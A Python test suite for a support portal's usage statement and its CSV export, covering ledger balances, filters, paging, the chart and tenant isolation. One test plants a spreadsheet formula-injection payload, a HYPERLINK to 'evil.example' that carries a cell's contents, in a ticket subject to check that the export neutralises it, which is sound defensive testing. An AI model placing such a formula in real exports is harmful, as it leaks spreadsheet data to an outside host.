"""The usage statement, /portal/usage and its CSV (issue 10): every movement of minutes and
every piece of support time, with the balance after each row; filters; keyset pages."""

from __future__ import annotations

import csv
import datetime
import re

import pytest

from backend.services import catalog, clock, coverage, ledger, statement
from backend.services.users import create_staff
from backend.tables import Company, LedgerEntry, LedgerOperation, User
from tests.support import PASSWORD, make_ticket, new_email, register

ROW = re.compile(r"<tr[ >]")


async def _company_id(name: str) -> int:
    return (await Company.select(Company.id).where(Company.name == name))[-1]["id"]


async def _technician() -> User:
    return await create_staff(
        email=new_email("tekniker-forbruk"),
        name="Tor Tekniker",
        role="technician",
        password=PASSWORD,
    )


async def _credit(company_id: int, minutes: int, days: int, key: str, codes=("inventor",)):
    await ledger.credit_lot(
        company_id=company_id,
        minutes=minutes,
        expires_on=clock.today() + datetime.timedelta(days=days),
        product_codes=list(codes),
        key=f"{key}-{company_id}",
        cause=ledger.Cause(type="order"),
    )


async def _log(ticket, technician: User, minutes: int, key: str):
    return await coverage.record_time_entry(
        ticket=ticket,
        technician=technician,
        actual=minutes,
        performed_on=clock.today(),
        channel="phone",
        note="",
        key=f"{key}-{ticket.id}",
    )


async def _history(company_id: int) -> dict[str, int]:
    """Two hours bought, an older hour that expired (and was written off), support from the
    account, a voided entry given back, an adjustment, and support billed by the hour for a
    product the account does not cover."""
    technician = await _technician()
    await _credit(company_id, 120, 100, "fresh")
    await _credit(company_id, 60, -2, "stale")
    await ledger.expire_lots(clock.today(), company_id)
    inventor = await make_ticket(company_id, "Tegning låser seg")
    fusion = await make_ticket(company_id, "CAM-oppsett", product="fusion")
    await _log(inventor, technician, 40, "first")
    wrong = await _log(inventor, technician, 20, "wrong")
    await coverage.void_time_entry(wrong.id, technician, "Feil sak")
    await ledger.adjust(
        company_id=company_id,
        minutes=-15,
        reason="Dobbelt registrert",
        user_id=technician.id,
        key=f"adjust-{company_id}",
        today=clock.today(),
    )
    await _log(fusion, technician, 50, "hourly")
    return {"inventor": inventor.id, "fusion": fusion.id}


async def _ledger_balances(company_id: int) -> list[int]:
    """The ledger's running sum after each operation that moved minutes, newest first."""
    operations = await LedgerOperation.select(LedgerOperation.id, LedgerOperation.created_at).where(
        LedgerOperation.company == company_id
    )
    entries = await LedgerEntry.select(LedgerEntry.operation, LedgerEntry.minutes).where(
        LedgerEntry.company == company_id
    )
    moved: dict[int, int] = {}
    for entry in entries:
        moved[entry["operation"]] = moved.get(entry["operation"], 0) + entry["minutes"]
    total, sums = 0, []
    for operation in sorted(operations, key=lambda o: (o["created_at"], o["id"])):
        if operation["id"] in moved:
            total += moved[operation["id"]]
            sums.append(total)
    return sums[::-1]


def _cells(page: str) -> list[list[str]]:
    start = page.index('<tbody id="usage-rows">')
    body = page[start : page.index("</tbody>", start)]
    rows = body.split("</tr>")[:-1]
    return [
        [re.sub(r"<[^>]+>|\s+", " ", cell).strip() for cell in row.split("</td>")[:-1]]
        for row in rows
    ]


def _minutes(balance: str) -> int:
    hours, minutes = re.fullmatch(r"(\d+) t (\d+) min", balance).groups()  # type: ignore[union-attr]
    return int(hours) * 60 + int(minutes)


async def test_the_running_balance_equals_the_ledger_at_every_row(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    company_id = await _company_id(form["company_name"])
    tickets = await _history(company_id)

    page = (await client.get("/portal/usage")).text
    rows = _cells(page)
    ledger_rows = [row for row in rows if row[9]]  # those that moved minutes
    assert [_minutes(row[11]) for row in ledger_rows] == await _ledger_balances(company_id)
    # The newest row's balance is the account's: 120 − 45 − 15, the expired hour written off.
    assert _minutes(rows[0][11]) == 60 == await ledger.balance(company_id, clock.today())
    kinds = [row[1] for row in rows]
    assert kinds[0] == "Support" and rows[0][8] == "Timepris" and "kr" in rows[0][10]
    assert f"/portal/tickets/{tickets['fusion']}" in page
    assert "Justering: Dobbelt registrert" in kinds
    assert "Tilbakeført (annullert timeføring)" in kinds
    assert "Utløpt, avskrevet" in kinds
    assert any("(annullert)" in kind for kind in kinds)
    voided = next(row for row in rows if "(annullert)" in row[1])
    assert voided[9] == "−30 min" and voided[8] == "Tidskonto"


async def test_the_csv_has_the_pages_rows_for_the_same_filter_as_excel_in_norway_reads_them(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    await _history(await _company_id(form["company_name"]))
    query = "period=this_month&product=fusion"
    page = (await client.get(f"/portal/usage?{query}")).text
    response = await client.get(f"/portal/usage.csv?{query}")
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").split("\r\n")
    assert lines[0].split(";")[:3] == ["Dato", "Hva", "Saksnummer"]
    records = [line.split(";") for line in lines[1:] if line]
    shown = _cells(page)
    assert len(records) == len(shown) == 1
    [record] = records
    assert record[0] == f"{clock.today():%d.%m.%Y}"
    assert record[2] == shown[0][2].split(" ")[0]  # the ticket number
    assert record[9] == "Timepris"
    assert re.fullmatch(r"\d+,\d\d", record[11])  # a decimal comma, no thousands sign
    assert record[12] == str(_minutes(shown[0][11]))


async def test_filters_by_product_and_period_and_keeps_them_in_the_links(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    await _history(await _company_id(form["company_name"]))
    fusion = _cells((await client.get("/portal/usage?product=fusion")).text)
    assert [row[4] for row in fusion] == ["Autodesk Fusion"]
    inventor = (await client.get("/portal/usage?product=inventor")).text
    assert {row[4] for row in _cells(inventor)} == {"Autodesk Inventor", ""}
    assert "Kjøp av timer" in inventor
    assert (
        'href="/portal/usage.csv?period=last_12_months&amp;from=&amp;to=&amp;product=inventor"'
        in (inventor)
    )
    last_month = (await client.get("/portal/usage?period=last_month")).text
    assert "Ingenting i denne perioden." in last_month
    today = clock.today().isoformat()
    custom = await client.get(f"/portal/usage?period=custom&from={today}&to={today}")
    assert len(_cells(custom.text)) == 8
    nonsense = await client.get("/portal/usage?period=custom&from=igår&to=2026-13-40&after=x")
    assert nonsense.status_code == 200


async def test_pages_neither_repeat_nor_skip_a_row_when_new_ones_arrive(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    company_id = await _company_id(form["company_name"])
    for n in range(55):
        await _credit(company_id, 60, 200, f"many-{n}")
    first = (await client.get("/portal/usage")).text
    assert len(_cells(first)) == 50
    next_url = re.search(r'href="(/portal/usage\?[^"]*after=L\d+)"', first).group(1)  # type: ignore[union-attr]
    for n in range(3):
        await _credit(company_id, 30, 200, f"later-{n}")
    # Without JavaScript, the link is the next page; with htmx, only the rows are appended.
    second = (await client.get(next_url.replace("&amp;", "&"))).text
    appended = await client.get(
        next_url.replace("&amp;", "&"), headers={"HX-Request": "true", "HX-Target": "usage-rows"}
    )
    assert "<html" not in appended.text and 'id="usage-next" hx-swap-oob="true"' in appended.text
    assert len(ROW.findall(appended.text)) == 5
    assert len(_cells(second)) == 5
    balances = [_minutes(row[11]) for row in _cells(first) + _cells(second)]
    assert balances == [60 * n for n in range(55, 0, -1)]
    assert "Vis flere" not in second


async def test_the_filter_form_swaps_only_the_region(client):
    await register(client)
    region = await client.get(
        "/portal/usage?period=this_month",
        headers={"HX-Request": "true", "HX-Target": "usage-region"},
    )
    assert '<div id="usage-region">' in region.text and "<form" not in region.text


async def test_a_company_sees_only_its_own_statement(client, other_client):
    await catalog.seed_demo_catalog()
    await register(client)
    theirs = await register(other_client)
    their_id = await _company_id(theirs["company_name"])
    await _credit(their_id, 600, 100, "theirs")
    [operation] = await LedgerOperation.select(LedgerOperation.id).where(
        LedgerOperation.company == their_id
    )
    mine = (await client.get("/portal/usage")).text
    assert "Ingenting i denne perioden." in mine
    following = await client.get(f"/portal/usage?after=L{operation['id']}")
    assert "Ingenting i denne perioden." in following.text
    csv = (await client.get("/portal/usage.csv")).content.decode("utf-8-sig")
    assert csv.count("\r\n") == 1  # the header only


async def test_the_chart_has_a_title_and_the_tables_figures(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    company_id = await _company_id(form["company_name"])
    await _history(company_id)
    technician = await _technician()
    earlier = clock.today() - datetime.timedelta(days=40)
    old_ticket = await make_ticket(company_id, "Gammel sak", product="vault", opened_days_ago=45)
    await coverage.record_time_entry(
        ticket=old_ticket,
        technician=technician,
        actual=100,
        performed_on=earlier,
        channel="mail",
        note="",
        key=f"earlier-{old_ticket.id}",
    )
    page = (await client.get("/portal/usage")).text
    chart = page[page.index('<figure id="usage-chart">') : page.index("</figure>")]
    assert '<title id="usage-chart-title">Support per måned, siste 12 måneder</title>' in chart
    months = re.findall(
        r'<th scope="row">([^<]+)</th>\s*<td class="number">([^<]+)</td>\s*'
        r'<td class="number">([^<]+)</td>\s*<td class="number">([^<]+)</td>',
        chart,
    )
    assert len(months) == 12
    figures = {label: (plan, account, hourly) for label, plan, account, hourly in months}
    # This month: 45 minutes from the account (the voided entry counts for nothing), the
    # Fusion hour billed hourly; 40 days ago: Vault, covered by nothing, 1 t 45 min hourly.
    this_month, then = months[-1][0], None
    assert figures[this_month] == ("0 t 0 min", "0 t 45 min", "1 t 0 min")
    then = next(label for label, *_ in months if figures[label][2] == "1 t 45 min")
    assert then != this_month
    # Each part of a bar is titled with its month, what paid and the time; the tallest bar
    # (1 t 45 min) fills the plot.
    titles = re.findall(r"<title>([^<]+)</title>", chart)
    assert f"{this_month}: Tidskonto 0 t 45 min" in titles
    assert f"{then}: Timepris 1 t 45 min" in titles
    assert 'height="174.0" class="chart-hourly"' in chart


@pytest.mark.parametrize(
    "query",
    [
        "period=custom&from=0001-01-01&to=9999-12-31",
        "period=custom&from=2026-01-01",
        "period=custom&to=2020-01-01",
        "after=L%C2%B2",
        "after=L99999999999999999999",
        "after=T-1",
        "period=never&product=" + "x" * 41,
    ],
)
async def test_odd_filters_and_cursors_answer_a_page_never_a_500(client, query):
    await register(client)
    assert (await client.get(f"/portal/usage?{query}")).status_code == 200
    csv = await client.get(f"/portal/usage.csv?{query}")
    assert csv.status_code == 200 and csv.content.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    ("today", "first"),
    [
        (datetime.date(2026, 12, 1), datetime.date(2026, 1, 1)),
        (datetime.date(2027, 3, 1), datetime.date(2026, 4, 1)),
        (datetime.date(2027, 3, 31), datetime.date(2026, 4, 1)),
    ],
)
def test_the_last_12_months_are_the_charts_months(today, first):
    bounds = statement.period_bounds(statement.StatementFilter(), today)
    assert bounds == (first, today)
    assert statement.chart_months(today)[0] == first
    assert len(statement.chart_months(today)) == 12


async def test_a_subject_that_looks_like_a_formula_stays_text_in_the_csv(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    company_id = await _company_id(form["company_name"])
    ticket = await make_ticket(company_id, '=HYPERLINK("http://evil.example/?"&A1;"Klikk")')
    await _log(ticket, await _technician(), 30, "formula")
    text = (await client.get("/portal/usage.csv")).content.decode("utf-8-sig")
    [record] = list(csv.reader(text.splitlines()[1:], delimiter=";"))
    assert record[3] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klikk")'
    assert record[10] == "0" and record[12] == "0"  # numbers stay numbers


async def test_a_period_starts_from_the_balance_of_everything_before_it(client):
    await catalog.seed_demo_catalog()
    form = await register(client)
    company_id = await _company_id(form["company_name"])
    await _credit(company_id, 120, 300, "before")
    long_ago = clock.now() - datetime.timedelta(days=70)
    await LedgerOperation.update({LedgerOperation.created_at: long_ago}).where(
        LedgerOperation.company == company_id
    )
    await _credit(company_id, 60, 300, "within")
    rows = _cells((await client.get("/portal/usage?period=this_month")).text)
    assert [(row[1], row[9], row[11]) for row in rows] == [
        ("Kjøp av timer", "+60 min", "3 t 0 min")
    ]


async def test_the_support_days_kept_are_what_the_migration_counts_from_the_time_entries(client):
    """The chart's days are added to as time is logged and voided; a database from before
    them gets them from its time entries (the migration's backfill): the two agree."""
    from backend.piccolo_migrations.backend_2026_12_01t17_57_06_000000 import BACKFILL
    from backend.tables import SupportDay

    await catalog.seed_demo_catalog()
    form = await register(client)
    await _history(await _company_id(form["company_name"]))

    def by_day(rows):
        return {(r["company"], str(r["day"])): r for r in rows}

    columns = (
        SupportDay.company,
        SupportDay.day,
        SupportDay.plan_minutes,
        SupportDay.account_minutes,
        SupportDay.hourly_minutes,
    )
    kept = by_day(await SupportDay.select(*columns))
    await SupportDay.delete(force=True)
    await SupportDay._meta.db.run_ddl(BACKFILL)
    counted = by_day(await SupportDay.select(*columns))
    # A day whose entries were all voided keeps a row of zeros; the backfill writes none.
    assert {k: v for k, v in kept.items() if any(v[c._meta.name] for c in columns[2:])} == counted
    assert any(r["account_minutes"] == 45 for r in counted.values())
